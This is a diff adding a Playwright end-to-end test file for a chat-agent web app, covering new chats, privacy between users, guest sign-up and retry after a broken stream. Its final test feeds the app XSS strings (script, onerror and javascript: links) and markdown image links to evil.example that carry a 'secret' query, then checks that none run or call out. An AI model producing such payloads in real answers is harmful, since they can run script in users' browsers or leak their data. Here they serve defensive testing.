@@ -1,0 +1,118 @@
+import { randomUUID } from "node:crypto"
+import { answerIn, answerText, ask, expect, knownText, test } from "./world.ts"
+
+test.beforeEach(({ model }) => {
+  model.answerWith(knownText)
+  model.release()
+})
+
+test("a new chat in a clean profile: nothing to set up, no error, and it is in the list", async ({ page, baseURL }) => {
+  const complaints: string[] = []
+  page.on("console", (line) => line.type() === "error" && complaints.push(line.text()))
+  page.on("pageerror", (error) => complaints.push(String(error)))
+  await page.goto("/")
+  await expect(page).toHaveURL(`${baseURL}/agent/assistant`)
+  await expect(page.getByText("Reload while it writes")).toBeVisible()
+  await ask(page, "Hello there")
+  await expect(page.getByTestId("message-user")).toHaveText(/Hello there/)
+  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
+  await expect(page.getByTestId("chat-list-item")).toHaveCount(1)
+  await expect(page.getByTestId("problem")).toHaveCount(0)
+  expect(complaints).toEqual([])
+})
+
+test("an address of a chat that nobody has is an empty chat", async ({ page }) => {
+  await page.goto(`/agent/assistant/${randomUUID()}`)
+  await expect(page.getByTestId("composer-input")).toBeVisible()
+  await expect(page.getByTestId("message-user")).toHaveCount(0)
+  await expect(page.getByTestId("problem")).toHaveCount(0)
+})
+
+test("another person's chat cannot be seen", async ({ page, browser, baseURL }) => {
+  await page.goto("/agent/assistant")
+  await ask(page, "My secret")
+  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
+  const stranger = await browser.newContext({ baseURL: baseURL ?? "" })
+  const other = await stranger.newPage()
+  await other.goto(page.url())
+  await expect(other.getByTestId("composer-input")).toBeVisible()
+  await expect(other.getByText("My secret")).toHaveCount(0)
+  await stranger.close()
+})
+
+test("an agent that is not there gives a page that says so", async ({ page }) => {
+  const response = await page.goto("/agent/nobody")
+  expect(response?.status()).toBe(404)
+})
+
+test("M16 a follow-up goes on in the same chat, and the agent keeps its address", async ({ page, model }) => {
+  await page.goto("/agent/coder")
+  await ask(page, "First question")
+  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
+  await ask(page, "Second question")
+  await expect(page.getByTestId("message-assistant")).toHaveCount(2)
+  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
+  await expect(page).toHaveURL(/\/agent\/coder\/[0-9a-f-]{36}$/)
+  const prompt = model.requests.at(-1)?.body.messages.map((message) => message.role)
+  expect(prompt).toEqual(["system", "user", "assistant", "user"])
+})
+
+test("M15 a guest who signs up keeps the chats", async ({ page }) => {
+  await page.goto("/agent/assistant")
+  await ask(page, "Before I signed up")
+  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
+  await page.goto("/sign-in")
+  await page
+    .getByRole("button", { name: /create an account|sign up/i })
+    .first()
+    .click()
+  const name = page.getByLabel(/name/i)
+  if (await name.count()) await name.first().fill("Ada")
+  await page.getByLabel(/e-?mail/i).fill(`${randomUUID()}@example.com`)
+  await page
+    .getByLabel(/password/i)
+    .first()
+    .fill("a long password")
+  await page
+    .getByRole("button", { name: /create|sign up/i })
+    .last()
+    .click()
+  await expect(page).toHaveURL(/\/agent\//)
+  await expect(page.getByTestId("chat-list-item")).toHaveCount(1)
+})
+
+test("F42 a model that fails keeps what it wrote, says so, and writes again on Retry", async ({ page, model }) => {
+  model.answerWith({ text: knownText, fault: "socket-destroyed", faultAfterWords: 5 })
+  await page.goto("/agent/assistant")
+  await ask(page, "Break off")
+  await expect(answerIn(page)).toHaveAttribute("data-status", "error")
+  expect(await answerText(page)).toContain("word3")
+  await expect(page.getByText("The model broke off before the end.")).toBeVisible()
+  model.answerWith(knownText)
+  await page.getByTestId("retry").first().click()
+  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
+  expect(await answerText(page)).toContain(knownText)
+  await expect(page.getByTestId("message-assistant")).toHaveCount(1)
+})
+
+test("B58 B59 what a model writes runs nothing and asks no other host", async ({ page, model, baseURL }) => {
+  const foreign: string[] = []
+  page.on("request", (request) => {
+    if (!request.url().startsWith(baseURL ?? "") && !/^(data|blob):/.test(request.url())) foreign.push(request.url())
+  })
+  page.on("dialog", (dialog) => foreign.push(`dialog ${dialog.message()}`))
+  model.answerWith(
+    [
+      "<script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3))",
+      "![leak](https://evil.example/?secret) <iframe src='https://evil.example'></iframe> <style>body{display:none}</style>",
+      "![r][r]\n\n[r]: https://evil.example/reference.png\n\nlast words",
+    ].join("\n\n"),
+  )
+  await page.goto("/agent/assistant")
+  await ask(page, "Be evil")
+  await expect(answerIn(page)).toHaveAttribute("data-status", "complete")
+  await expect(answerIn(page)).toContainText("last words")
+  await page.waitForLoadState("networkidle")
+  expect(foreign).toEqual([])
+  await expect(answerIn(page).locator("script, iframe, style, img[src^='http']")).toHaveCount(0)
+})
